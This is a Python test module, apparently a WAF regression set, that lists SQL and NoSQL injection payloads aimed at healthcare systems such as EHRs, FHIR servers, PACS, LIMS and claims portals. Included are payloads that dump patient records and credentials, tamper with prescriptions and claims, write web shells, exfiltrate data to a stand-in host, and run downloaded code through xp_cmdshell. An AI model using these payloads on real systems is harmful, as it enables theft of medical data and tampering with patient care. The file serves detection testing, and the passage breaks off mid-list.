"""Blind set "twohundredfifteenth": SQL and NoSQL injection aimed at the software of hospitals, clinics, labs and
insurers, with benign requests that carry the same words innocently.

The angle: healthcare and life-sciences systems, recalled from memory. Every payload is written against the
parameter a real clinical product takes and the store behind it: EHR and practice-management patient finders
(lname, pid, mrn on MySQL), patient portals and appointment booking (SQL Server, SQLite kiosks), FHIR REST servers
whose search parameters, _sort and _filter end up in a JPA or hand-written SQL layer (PostgreSQL, SQL Server),
HL7 v2 web gateways that write PID/OBX fields into a database, DICOM/PACS web viewers and WADO endpoints
(StudyInstanceUID, AccessionNumber on PostgreSQL or SQL Server), LIMS sample trackers (Oracle, MySQL),
e-prescribing and pharmacy systems (NDC, NPI, DEA), billing and claims portals, telehealth platforms on Node.js and
MongoDB, research data warehouses and REDCap-style survey tools (MySQL), and medical-device management consoles
(SQLite, SQL Server). Each group carries a short comment naming the system, the field and the target database.

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path) under the clinical systems' own parameter names (mrn, patient_id, family,
accession, sort, npi, claim_id, record_id, sample_id), once the way a WAF regression suite sends it (placements
prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body,
JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole MongoDB
query documents (telehealth and portal logins) go as the JSON body; Express/PHP bracket operators
(`password[$ne]=1`) go as raw `name=value` pairs. Payloads with a newline or tab never go into headers, cookies
or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of
clinical software, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredfifteenth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that break out of the clinical field's string or number context
LIBINJECTION: list[Entry] = [
    # EHR patient finder, last-name field `lname` (PHP EHR on MySQL)
    "Smith' or '1'='1",
    "Smith' or 1=1-- -",
    "0' or pid>0#",
    "Garcia' || 1#",
    # FHIR Patient?family= on a hand-written SQL search layer (PostgreSQL)
    "Chalmers' or 'a'='a'--",
    "Peter' or true--",
    "x') or ('x'='x",
    # appointment booking, numeric provider id `provider_id` (SQL Server)
    "17 or 1=1",
    "17) or (1=1",
    "-1 or 1=1--",
    # patient-portal kiosk, MRN wrapped in double quotes (SQLite)
    'MRN0001" or "1"="1',
    '" or 1=1--',
    # LIMS sample barcode `sample_id` (Oracle)
    "S-2024-00017' or 'x'='x",
    "' or 1=1 or sample_id='",
    # DICOM web viewer StudyInstanceUID parameter (MySQL-backed PACS)
    "1.2.840.113619.2.55.3' or '1'='1",
    "1.2.840.10008' or 1#",
    # HL7 v2 web gateway, PID-3 identifier with its components (SQL Server)
    "12345^^^HOSP^MR' or 1=1--",
    # pharmacy NDC lookup (MySQL)
    "0002-8215-01' or 1=1#",
    # claims portal claim number (PostgreSQL)
    "CLM000123' or 1=1--",
    # REDCap-style survey tool, record id (MySQL)
    "101' or '1'='1' -- ",
    "101'||'1",
    # telehealth visit code (SQL Server)
    "'or''='",
    "' or 'a'='a' and ''='",
    # medical-device console, device serial (SQLite)
    "SN-88231' or 1=1 --",
    "1'or'1",
    "1' and 1=1 and '1'='1",
    # wristband barcode scanner feeding the MAR (bedside medication) lookup (MySQL)
    "WB0042') or 1=1#",
    "1 or true",
]

# sql-tautology/boolean: always-true and probe-true conditions against clinical tables
TAUTOLOGY: list[Entry] = [
    # EHR on MySQL: patient_data and users_secure tables of a PHP EHR
    "' and (select count(*) from patient_data)>0#",
    "' and (select substring(ss,1,1) from patient_data limit 1)='1'#",
    "1 and (select length(password) from users_secure where username='admin')>10",
    "1 and 1=1",
    "1 and 1=2",
    "' or 3-2=1#",
    "'||1=1||'",
    # ICD-10 and LOINC code fields on a results viewer (PostgreSQL)
    "E11.9' or 'dx'='dx",
    "J45.909' or 1=1--",
    "2345-7' and 'a'='a",
    "2345-7' and 'a'='b",
    "8480-6' or not false--",
    "' and (select current_user)='postgres'--",
    "' and (select count(*) from pg_user)>0--",
    "' or exists(select 1 from observation)--",
    # REDCap-style survey tool (MySQL): is there a super user
    "' and (select count(*) from redcap_user_information where super_user=1)>0#",
    # practice management on SQL Server
    "' and (select top 1 len(SSN) from Patients)=9--",
    "' or (select is_srvrolemember('sysadmin'))=1--",
    "' and 1=(select count(*) from users where role='physician')--",
    "' or @@version is not null--",
    # LIMS on Oracle
    "' and (select 1 from dual where user='LIMS')=1--",
    "' and (select count(*) from all_users)>0--",
    # device console (SQLite)
    "' and (select count(*) from sqlite_master)>0--",
    "' or 0=0 #",
    "1 or 1 is not null",
    "' or true or '",
    "1 or 'icd10'='icd10'",
    "' or 'patient'='patient",
]

# sql-comment-sequence: comments that cut off the rest of the clinical query (facility, tenant, deleted flags)
COMMENT: list[Entry] = [
    # practice management on SQL Server: drop "AND facility_id=3 AND deleted=0"
    "doe'--",
    "doe' --",
    "MRN0042';--",
    "1;--",
    "'); --",
    "')) --",
    # EHR on MySQL: every MySQL comment style after the last name
    "Smith'#",
    "Smith'/*",
    "Smith' -- -",
    "1002'-- -",
    "1 or 1=1 --+",
    "1'--+-",
    "1' or 1=1 ;--",
    "0'#",
    "' or 1#",
    "1) -- -",
    # two-field patient portal login: the comment opens in the username and closes in the DOB field
    "jdoe'/*",
    "*/ or '1'='1",
    "*/ or 1=1-- ",
    # FHIR search layer on PostgreSQL: nested block comments are legal there
    "1 /* /* */ */ or 1=1--",
    "' or true/*",
    "x'/**/or/**/1=1/**/--",
    # LIMS on Oracle: the sample query ends with AND lab_id=:lab
    "' or 1=1 --",
    "S-1' --",
    # device console on SQLite
    "' or 1=1;--",
    "SN1'/*",
    # HL7 gateway: line comment then a newline keeps the next segment out of the SQL
    "ADT_A08'--\n",
    "1 /* ward */ or 1=1",
]

# union-select: read PHI and credentials through the result set of a clinical search
UNION: list[Entry] = [
    # PHP EHR on MySQL
    "' union select username,password from users_secure#",
    "-1 union select 1,username,password,4 from users_secure-- -",
    "' union all select pid,fname,lname,ss,DOB from patient_data#",
    "0 union select null,concat(fname,0x3a,ss),null from patient_data",
    "' union select @@version,user(),database()#",
    "' union select 1,2,3,4,5,6,7-- -",
    # FHIR JPA server on PostgreSQL (resource and version tables)
    "x' union select res_id,res_text_vc from hfj_res_ver--",
    "' union select null,res_type,null from hfj_resource--",
    "') union select null,version()--",
    # practice management on SQL Server
    "' union select top 10 PatientID,SSN,DOB from dbo.Patients--",
    "' union all select name,password_hash from sys.sql_logins--",
    "1 UNION SELECT ALL NULL,NULL,@@servername--",
    # hospital information system on Oracle (person and encounter tables)
    "' union select person_id,name_full_formatted from person--",
    "' union select username,password from dba_users--",
    "' union select null,banner from v$version--",
    "' union select 1,user,3 from dual--",
    # PACS archive on PostgreSQL: patient and study tables behind the WADO endpoint
    "1.2.3' union select pat_name,pat_id from patient--",
    "' union select study_iuid,accession_no,null from study--",
    # LIMS sample tracker (MySQL)
    "' union select sample_id,result_value,patient_mrn from lab_results#",
    # REDCap-style survey tool (MySQL): the data and auth tables
    "' union select project_id,record,field_name,value from redcap_data#",
    "' union select username,password,password_salt from redcap_auth#",
    # e-prescribing: prescriber NPI and DEA numbers (SQL Server)
    "' union select npi,dea_number from prescribers--",
    # claims portal: member SSN and bank account (PostgreSQL)
    "' union select member_id,ssn,bank_account from members--",
    # telehealth platform: live session tokens (MySQL)
    "' union select user_id,session_token from sessions#",
    "' UnIoN SeLeCt 1,2#",
    "' union distinct select name,ssn from patients--",
    "1 union (select mrn,dob from patients)",
    # device console (SQLite)
    "' union select sql,name from sqlite_master--",
]

# stacked-queries: a second statement that changes clinical data, privileges or the audit trail
STACKED: list[Entry] = [
    # EHR on MySQL with multi-statements enabled
    "1; drop table appointments--",
    "1; update users set role='admin' where username='drbob'--",
    "'; insert into users(username,password,role) values('intern','x','superuser');--",
    "'; rename table patient_data to patient_data_old;#",
    "'; grant all privileges on *.* to 'lims'@'%';#",
    "'; set global general_log=1;#",
    # practice management on SQL Server: hide the tracks, change the clinical record
    "1; truncate table audit_log--",
    "'; delete from lab_results where sample_id like 'S-2024%';--",
    "'; alter table Patients add x int;--",
    "'; update users set mfa_enabled=0;--",
    "'; delete from appointments;--",
    "'; shutdown with nowait--",
    "Robert'); DROP TABLE Patients;--",
    # pharmacy system: quantity and refills of a controlled substance
    "'; update prescriptions set quantity=999,refills=11 where rx_id=42;--",
    # claims portal: approve and inflate a claim (PostgreSQL)
    "'; update claims set status='APPROVED', amount=99999 where claim_id='CLM1';--",
    "'; create role ehr_bk login superuser password 'x';--",
    # FHIR JPA server on PostgreSQL: soft-delete every resource
    "'; update hfj_resource set res_deleted_at=now();--",
    # REDCap-style survey tool (MySQL): give a user design rights, drop the database
    "'; insert into redcap_user_rights(project_id,username,design) values(1,'x',1);#",
    "'; drop database redcap;#",
    # PACS archive (SQL Server): mark every study deleted
    "'; update dicom_study set study_status='DELETED';--",
    # device management console: point the fleet at another firmware (SQLite)
    "1; update device_config set firmware_url='http://evil.example/fw.bin'--",
    "'; delete from alarm_limits;--",
    # HL7 gateway staging table (SQL Server)
    "'; insert into hl7_outbound(msg) values('MSH|^~\\&|EVIL');--",
    "%'; drop table orders;--",
    "1;select * from users",
    "'; begin; update observation set value='normal'; commit;--",
    # LIMS on Oracle through a PL/SQL anonymous block
    "'; begin execute immediate 'drop table samples'; end;--",
    "'; exec sp_rename 'Patients','Patients_x';--",
]

# time-based-blind: sleep/benchmark/pg_sleep/waitfor/heavy queries against the clinical store
TIME: list[Entry] = [
    # EHR on MySQL
    "1' and sleep(5)#",
    "' or sleep(5)-- -",
    "1 and (select sleep(5) from patient_data limit 1)",
    "' and if(substr((select password from users_secure limit 1),1,1)='$',sleep(5),0)#",
    "' or benchmark(10000000,md5(1))#",
    "1' and (select * from (select(sleep(10)))a)-- -",
    "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
    "1' and benchmark(5000000,sha1('fhir'))#",
    "1; select sleep(5);#",
    "' || sleep(5) || '",
    # FHIR search layer on PostgreSQL
    "'; select pg_sleep(5)--",
    "' or 1=(select 1 from pg_sleep(5))--",
    "' and (select case when current_user='postgres' then pg_sleep(5) end) is null--",
    "1||pg_sleep(5)",
    "';select pg_sleep_for('5 seconds')--",
    "'; select case when (select substring(ssn,1,1) from patient limit 1)='1' then pg_sleep(5) end--",
    # practice management and PACS on SQL Server
    "'; waitfor delay '0:0:5'--",
    "1; waitfor delay '00:00:05'--",
    "'; if (select count(*) from Patients)>0 waitfor delay '0:0:5'--",
    "' if system_user='sa' waitfor delay '0:0:5'--",
    "1);waitfor delay '0:0:7'--",
    # LIMS on Oracle
    "' and 1=dbms_pipe.receive_message('a',5)--",
    "' and 1=(select count(*) from all_objects a, all_objects b, all_objects c)--",
    "' or 1=dbms_pipe.receive_message(('x'),10)--",
    # device console on SQLite
    "' and 1=randomblob(500000000)--",
    "' and 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--",
    "0'XOR(if(1=1,sleep(5),0))XOR'Z",
    "1 and sleep(5)",
]

# error-based: the database error page of the clinical app carries the data
ERROR: list[Entry] = [
    # EHR on MySQL: XPath and duplicate-key errors
    "' and extractvalue(1,concat(0x7e,(select user()),0x7e))#",
    "' and extractvalue(rand(),concat(0x3a,(select password from users_secure limit 1)))#",
    "1 and updatexml(1,concat(0x7e,(select ss from patient_data limit 1)),1)",
    "' or updatexml(null,concat(0x0a,version()),null)-- -",
    "' and (select 1 from (select count(*),concat((select database()),floor(rand(0)*2))x "
    "from information_schema.tables group by x)a)#",
    "' and exp(~(select * from (select user())a))#",
    "' and gtid_subset(concat(0x7e,(select user())),1)#",
    "1' and extractvalue(1,concat(0x5c,(select group_concat(table_name) from information_schema.tables "
    "where table_schema='openemr')))#",
    # practice management and PACS on SQL Server: conversion errors
    "' and 1=convert(int,(select top 1 SSN from Patients))--",
    "' and 1=convert(int,@@version)--",
    "' and 1=cast((select top 1 username from users) as int)--",
    "1 and 1=convert(int,db_name())",
    "'+convert(int,(select top 1 name from sys.databases))+'",
    "' and 1=convert(int,(select top 1 name from master..sysdatabases))--",
    "' and 1=(select top 1 AccessionNumber from Studies)--",
    # FHIR search layer on PostgreSQL: cast errors
    "' and 1=cast((select version()) as int)--",
    "' and 1=cast((select string_agg(usename,',') from pg_user) as int)--",
    "1 and 1=(select res_text_vc from hfj_res_ver limit 1)::int",
    "' and 1=(select current_database())::int--",
    # LIMS and HIS on Oracle
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "' and (select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual) is not null--",
    "' and 1=to_number((select name_full_formatted from person where rownum=1))--",
    "' and 1=dbms_xmlgen.getxml('select password from dba_users')--",
    # device console on SQLite: the extension loader echoes its argument
    "' and load_extension((select sqlite_version()))--",
    "' and 1=(select top 1 PatientName+'|'+PatientID from Patient)--",
    "' and polygon((select * from (select * from (select @@version)f)x))#",
    "' and json_keys((select convert((select ss from patient_data limit 1) using utf8)))#",
]

# out-of-band: read files, write web shells, push PHI to an outside host
OOB: list[Entry] = [
    # PHP EHR on MySQL: read the database credentials file, write a shell under the documents folder
    "' union select load_file('/etc/passwd'),null#",
    "' union select load_file('/var/www/openemr/sites/default/sqlconf.php'),2#",
    r"' union select load_file(concat('\\\\',(select password from users_secure limit 1),'.oob.example.net\\a'))#",
    "' union select '<?php system($_GET[c]); ?>' into outfile "
    "'/var/www/html/openemr/sites/default/documents/s.php'#",
    "' union select fname,lname,ss from patient_data into outfile '/tmp/p.csv'#",
    "' union select 1,2 into dumpfile '/var/www/html/x.php'#",
    "'; select * from patient_data into outfile '/var/lib/mysql-files/pd.txt'#",
    # practice management and PACS on SQL Server: UNC paths make the server resolve our host
    r"'; exec master..xp_dirtree '\\oob.example.net\x'--",
    r"'; declare @p varchar(99); set @p=(select top 1 SSN from Patients); "
    r"exec('master..xp_dirtree ''\\'+@p+'.oob.example.net\a''')--",
    r"'; exec master..xp_fileexist '\\oob.example.net\a'--",
    r"'; exec master..xp_subdirs '\\10.0.0.5\x'--",
    "'; select * from openrowset('SQLOLEDB','server=oob.example.net;uid=sa;pwd=x','select 1')--",
    r"'; bulk insert tmp from '\\oob.example.net\x\y.txt'--",
    # hospital information system and LIMS on Oracle
    "' and 1=utl_http.request('http://oob.example.net/'||(select user from dual))--",
    "' union select utl_http.request('http://oob.example.net/'||(select password from dba_users "
    "where rownum=1)) from dual--",
    "' and 1=utl_inaddr.get_host_address((select user from dual)||'.oob.example.net')--",
    "' and (select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://oob.example.net/\">%x;]>'),'/l') from dual) is not null--",
    "' and httpuritype('http://oob.example.net/'||user).getclob() is not null--",
    "' and 1=dbms_ldap.init((select user from dual)||'.oob.example.net',389)--",
    # FHIR server and claims portal on PostgreSQL
    "'; select dblink_connect('host=oob.example.net user=x password=x dbname=x')--",
    "' union select * from dblink('host=oob.example.net user=a dbname=b','select 1') as t(a int)--",
    "'; copy (select * from patient) to program 'curl -d @- http://oob.example.net'--",
    "'; copy patient to '/tmp/patient.csv'--",
    "'; select pg_read_file('/etc/passwd')--",
    "' union select null,pg_read_file('postgresql.conf')--",
    "'; select lo_import('/etc/passwd')--",
    # device console on SQLite: attach a new database file under the web root
    "'; attach database '/var/www/html/s.php' as x; create table x.t(c text); "
    "insert into x.t values('<?php system($_GET[c]);?>');--",
    "' union select load_file('C:/Program Files/Mirth Connect/conf/mirth.properties'),2#",
]

# information-schema/catalog probing: find where the PHI lives
CATALOG: list[Entry] = [
    # EHR and REDCap-style tools on MySQL
    "' union select table_name,null from information_schema.tables where table_schema=database()#",
    "' union select column_name,null from information_schema.columns where table_name='patient_data'#",
    "' and (select count(*) from information_schema.columns where column_name like '%ssn%')>0#",
    "' union select group_concat(schema_name),2 from information_schema.schemata#",
    "' union select table_schema,table_name from information_schema.tables where table_name like '%redcap%'#",
    "' union select user,authentication_string from mysql.user#",
    "' and 1=(select count(*) from mysql.user)#",
    "' and substring((select table_name from information_schema.tables where table_schema='lims' "
    "limit 0,1),1,1)='s'#",
    "' union select table_name,column_name from information_schema.key_column_usage#",
    # practice management and PACS on SQL Server
    "' union select name,null from sys.tables--",
    "' union select name,type from sysobjects where xtype='U'--",
    "' union select name,null from master..sysdatabases--",
    "' union select column_name,data_type from information_schema.columns where table_name='Patients'--",
    "' union select name,null from sys.columns where object_id=object_id('Patients')--",
    "1 and (select count(*) from sys.objects where name like '%claim%')>0",
    "' union select routine_name,null from information_schema.routines--",
    # hospital information system on Oracle
    "' union select table_name,null from all_tables where owner='V500'--",
    "' union select column_name,null from all_tab_columns where table_name='PERSON'--",
    "' union select owner,table_name from all_tables--",
    "' union select table_name,null from user_tables--",
    # FHIR JPA server on PostgreSQL
    "' union select tablename,null from pg_tables where schemaname='public'--",
    "' union select relname,null from pg_class where relkind='r'--",
    "' union select attname,null from pg_attribute where attrelid='hfj_resource'::regclass--",
    "' union select datname,null from pg_database--",
    "' union select schema_name,null from information_schema.schemata--",
    # device console on SQLite
    "' union select name,sql from sqlite_master where type='table'--",
    "' union select tbl_name,null from sqlite_master--",
    "' union select sql,null from sqlite_schema--",
]

# mysql-comment-obfuscation: versioned and inline comments around keywords (MySQL-backed EHR, LIMS, REDCap)
MYCOMMENT: list[Entry] = [
    "'/*!50000union*/ /*!50000select*/ username,password from users_secure#",
    "'/*!union*//*!select*/1,2,3#",
    "1/*!or*/1=1",
    "'/*!12345or*/'1'='1",
    "1'/**/union/**/select/**/pid,ss/**/from/**/patient_data#",
    "'un/**/ion sel/**/ect 1,2#",
    "1/*!50000and*/sleep(5)",
    "'/*!50000or*/ 1#",
    "' /*!UNION*/ /*!ALL*/ /*!SELECT*/ 1,ss,3 from patient_data-- -",
    "1'/*!and*/extractvalue(1,concat(0x7e,user()))#",
    "'/*! or */ 1=1 #",
    "-1/*!00000union*/select 1,@@version#",
    "'/**//*!50000union*//**//*!50000all*//**//*!50000select*/1,2#",
    "1 /*!40101 or 1=1*/",
    "'/*!or*/'x'='x",
    "1'/*!50000union*/(select/**/username,password/**/from/**/redcap_auth)#",
    "1/**/and/**/1=0/**/union/**/select/**/1,2",
    "'/*!32302 and 1=0*/ union select 1,2#",
    "'||/*!50000sleep*/(5)#",
    "' and 1=(/*!50000select*/ 1 /*!from*/ dual)#",
    "'/*!union*/ /*!select*/ load_file('/etc/passwd')#",
    "'/**/or/**/'1'/**/=/**/'1",
    "admin'/*!*/#",
    "1'/*!50000order*//*!50000by*/5#",
    "-1'/*!union*/select /*!group_concat*/(table_name),2 from information_schema.tables#",
    "1'/*comment*/OR/*x*/1#",
    "'#\nunion select 1,2#",
    "1'-- -\nunion select ss,1 from patient_data#",
]

# function-based-probing: substring/ascii/char/concat walk the PHI one character at a time
FUNCTION: list[Entry] = [
    # EHR on MySQL
    "' and substring((select password from users_secure where username='admin'),1,1)='$'#",
    "' and ascii(substring((select ss from patient_data limit 1),1,1))>48#",
    "' and ord(mid(user(),1,1))=114#",
    "' and char(97,100,109,105,110)=(select username from users limit 1)#",
    "' union select concat(fname,char(58),lname,char(58),ss),null from patient_data#",
    "' union select concat_ws(0x3a,username,password),2 from users_secure#",
    "' and length(database())=7#",
    "' and left(version(),1)='8'#",
    "' and hex(substr(user(),1,1))='72'#",
    "' and bin(ascii(mid(user(),1,1)))>1#",
    "' and strcmp(substr(user(),1,1),'r')=0#",
    "' and locate('root',user())>0#",
    # device console on SQLite
    "' and unicode(substr((select sqlite_version()),1,1))=51--",
    "' and substr((select name from sqlite_master limit 1),1,1)='p'--",
    # FHIR search layer and claims portal on PostgreSQL
    "' and ascii(substr((select usename from pg_user limit 1),1,1))=112--",
    "' union select string_agg(usename||':'||passwd,','),null from pg_shadow--",
    "' and substring(current_setting('data_directory'),1,1)='/'--",
    # practice management on SQL Server
    "' and ascii(substring((select top 1 SSN from Patients),1,1))>50--",
    "' and unicode(left(system_user,1))=115--",
    "' and len(@@servername)>3--",
    "' and datalength(db_name())=6--",
    "' union select char(115)+char(97)+char(58)+password,null from users--",
    # LIMS on Oracle
    "' and ascii(substr((select user from dual),1,1))=86--",
    "' and substr((select banner from v$version where rownum=1),1,6)='Oracle'--",
    "' and instr(user,'V500')>0--",
    "' union select chr(80)||chr(72)||chr(73)||password,null from dba_users--",
    "' and lengthb((select password from dba_users where rownum=1))=16--",
    "' and mid((select group_concat(value) from redcap_data),1,1)>'a'#",
]

# sql-authentication-bypass: the login forms of patient portals, EHRs and device consoles
AUTH: list[Entry] = [
    # patient portal and EHR logins on MySQL
    "admin'--",
    "admin' #",
    "admin'/*",
    "' or 1=1--",
    "' or ''='",
    "drsmith' or '1'='1'--",
    "' or 1=1 limit 1#",
    "admin' or 'a'='a",
    "admin') or ('1'='1'--",
    "' union select 1,'admin','21232f297a57a5a743894a0e4a801fc3',1#",
    "nurse' or 1=1 limit 1-- -",
    "' or username like 'admin%'#",
    "admin'||'",
    "portal' or pid is not null#",
    "') or 1=1#",
    "admin' and 1=1-- ",
    # clinician single sign-on fallback and practice management on SQL Server
    "' or role='physician'--",
    "x' or 1=1 and username='admin'--",
    "admin'; --",
    "' or 'x'='x'; --",
    "sa'--",
    # device management console (SQLite) and LIMS (Oracle)
    "biomed'--",
    "' or 1=1 and rownum=1--",
    "') or true--",
    '" or ""="',
    "'='",
    "anything' or 'x'='x",
    "1' or '1'='1",
]

# nosql-injection: telehealth and portal back ends on Node.js and MongoDB, Mongo-backed FHIR servers
NOSQL: list[Entry] = [
    # whole query documents posted to the login and search APIs (MongoDB)
    ('{"username": "admin", "password": {"$ne": null}}', *JB),
    ('{"email": {"$gt": ""}, "password": {"$gt": ""}}', *JB),
    ('{"mrn": {"$regex": "^.*"}, "dob": {"$ne": "1900-01-01"}}', *JB),
    ('{"username": {"$in": ["admin", "root", "drsmith"]}, "password": {"$ne": ""}}', *JB),
    ('{"$where": "this.role == \'admin\' || true"}', *JB),
    ('{"$where": "sleep(5000) || true"}', *JB),
    ('{"patientId": {"$exists": true}, "ssn": {"$regex": "^1"}}', *JB),
    ('{"visitCode": {"$nin": []}}', *JB),
    ('{"$or": [{"role": "admin"}, {"_id": {"$ne": 0}}]}', *JB),
    ('{"username": "admin", "password": {"$regex": "^a"}}', *JB),
    ('{"token": {"$gt": ""}, "appointmentId": "1"}', *JB),
    ('{"identifier.value": {"$regex": ".*"}, "birthDate": {"$gte": ""}}', *JB),
    ('{"$expr": {"$eq": [1, 1]}}', *JB),
    # Express/PHP bracket syntax turns a form field into an operator object
    ("username=admin&password[$ne]=x", *KV),
    ("password[$ne]=1", *KV),
    ("mrn[$regex]=.*", *KV),
    ("email[$gt]=", *KV),
    ("username[$in][]=admin", *KV),
    ("dob[$exists]=true", *KV),
    ("role[$nin][]=patient", *KV),
    ("$where=sleep(5000)", *KV),
    ("pin[$lt]=99999", *KV),
    ("user[$regex]=^adm&pass[$ne]=1", *KV),
    # the value lands inside a $where JavaScript string (MongoDB server-side JavaScript)
    "' || '1'=='1",
    "'; return true; var x='",
    "1; sleep(5000)",
    "' || this.ssn.length > 0 || '",
    '{"$ne": null}',
]

# hex/char encoding: the same attacks with literals the filter cannot read
ENCODING: list[Entry] = [
    # EHR on MySQL: hex, binary and introducer literals
    "' or username=0x61646d696e#",
    "' union select 1,load_file(0x2f6574632f706173737764)#",
    "' union select column_name,2 from information_schema.columns where table_name=0x70617469656e745f64617461#",
    "' union select unhex(hex(ss)),2 from patient_data#",
    "' union select char(60,63,112,104,112,32,115,121,115,116,101,109,40,36,95,71,69,84,91,99,93,41,59,63,62) "
    "into outfile '/var/www/html/c.php'#",
    "' union select 0x3c3f7068702073797374656d28245f4745545b635d293b3f3e into outfile '/var/www/html/openemr/x.php'#",
    "' or username=x'61646d696e'#",
    "' or username=b'0110000101100100011011010110100101101110'#",
    "' and _utf8 0x61646d696e=username#",
    "' union select column_name,2 from information_schema.columns where table_name=0x75736572735f736563757265#",
    # practice management on SQL Server: hex strings run through exec()
    "'; declare @s varchar(200); set @s=0x73656c65637420404076657273696f6e; exec(@s)--",
    "'; declare @c varchar(4000); set @c=cast(0x65786563206d61737465722e2e78705f636d647368656c6c202777686f616d6927 "
    "as varchar(4000)); exec(@c)--",
    "'; exec('xp_cmdshell ' + char(119)+char(104)+char(111)+char(97)+char(109)+char(105))--",
    "' and username=char(97)+char(100)+char(109)+char(105)+char(110)--",
    "'; declare @q varchar(99)=0x73656c656374202a2066726f6d2050617469656e7473; exec(@q)--",
    # FHIR search layer on PostgreSQL
    "' or username=chr(97)||chr(100)||chr(109)||chr(105)||chr(110)--",
    "'; do $$begin execute convert_from(decode('ZHJvcCB0YWJsZSBwYXRpZW50','base64'),'utf8'); end$$--",
    # HIS and LIMS on Oracle
    "' or username=chr(83)||chr(89)||chr(83)--",
    "' union select utl_raw.cast_to_varchar2(hextoraw('2f6574632f706173737764')),null from dual--",
    # device console on SQLite: blob literal and char()
    "' union select x'3c3f7068702073797374656d28245f4745545b635d293b3f3e',2--",
    "' or name=char(97,100,109,105,110)--",
    # double URL encoding for a portal that decodes twice
    "%27%20union%20select%20ss%20from%20patient_data%23",
    "%2527%2520or%25201%253d1--",
    # best-fit and fullwidth quotes that an ANSI (varchar) conversion on SQL Server turns into a quote
    "\u02bc or 1=1--",
    "\uff07 or 1=1--",
    # JSON unicode escapes in the FHIR $everything / search POST body
    ('{"family": "\\u0027 or 1=1--"}', *JB),
    ('{"mrn": "\\u0027 union select ss from patient_data\\u0023"}', *JB),
    ('{"_id": "1\\u0027; waitfor delay \\u00270:0:5\\u0027--"}', *JB),
]

# stored-procedure/xp_cmdshell: run commands through the database of the PACS, EHR or interface engine
PROC: list[Entry] = [
    # PACS and practice management on SQL Server
    "'; exec master..xp_cmdshell 'whoami'--",
    "'; exec xp_cmdshell 'net user pacsadm P@ss1 /add'--",
    "'; exec sp_configure 'show advanced options',1; reconfigure; exec sp_configure 'xp_cmdshell',1; reconfigure--",
    "1; exec xp_cmdshell 'powershell -c iwr http://oob.example.net/a.ps1|iex'--",
    r"'; exec master.dbo.xp_cmdshell 'type C:\Program Files\Mirth Connect\conf\mirth.properties'--",
    "'; exec sp_addsrvrolemember 'ehruser','sysadmin'--",
    "'; exec sp_addlogin 'hl7svc','Winter2024!'--",
    r"'; declare @o int; exec sp_oacreate 'wscript.shell',@o out; "
    r"exec sp_oamethod @o,'run',null,'cmd /c whoami > c:\t.txt'--",
    r"'; exec xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\Microsoft\MSSQLServer\MSSQLServer','LoginMode'--",
    "'; exec sp_executesql N'select * from Patients'--",
    "'; exec('sel'+'ect * from dbo.Patients')--",
    r"'; exec sp_makewebtask 'c:\inetpub\wwwroot\p.html','select * from Patients'--",
    "'; exec master..sp_password null,'x','sa'--",
    "'; exec sp_msforeachtable 'drop table ?'--",
    "'; exec xp_servicecontrol 'stop','MSSQLSERVER'--",
    "'; exec sp_configure 'clr enabled',1; reconfigure--",
    r"'; exec xp_cmdshell 'certutil -urlcache -f http://oob.example.net/x.exe c:\windows\temp\x.exe'--",
    "'; exec('xp_cmdshell ''whoami''') at [LIS01]--",
    "'; exec master..xp_cmdshell 'net stop Orthanc'--",
    # FHIR server and claims portal on PostgreSQL
    "'; copy (select '') to program 'id > /tmp/id'--",
    "'; create table cmd(o text); copy cmd from program 'id'; select * from cmd--",
    "'; create or replace function sys(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict; select sys('id')--",
    # LIMS on Oracle
    "'; begin dbms_scheduler.create_job(job_name=>'j',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
    "enabled=>true); end;--",
    "' || dbms_xmlquery.newcontext('declare pragma autonomous_transaction; begin execute immediate "
    "''grant dba to public''; commit; end;') || '",
    # EHR on MySQL with lib_mysqludf_sys, research warehouse on Aurora MySQL
    "' union select sys_exec('id'),2#",
    "'; select sys_eval('whoami');#",
    "'; call mysql.lambda_async('arn:aws:lambda:us-east-1:1:function:x','{}');#",
    # device console on SQLite
    "'; select load_extension('/tmp/evil.so')--",
]

# having/group-by/order-by probing: column counts, sort-parameter injection (FHIR _sort, grid sort columns)
ORDER: list[Entry] = [
    # EHR patient list on MySQL: count the columns
    "1 order by 1--",
    "1 order by 10--",
    "' order by 3#",
    "' order by 7-- -",
    "' order by 1,2,3,4,5,6,7,8,9,10--",
    # sort parameter (grid column or FHIR _sort on a SQL layer), MySQL
    "if(1=1,fname,lname)",
    "(case when (select substr(ss,1,1) from patient_data limit 1)='1' then lname else fname end)",
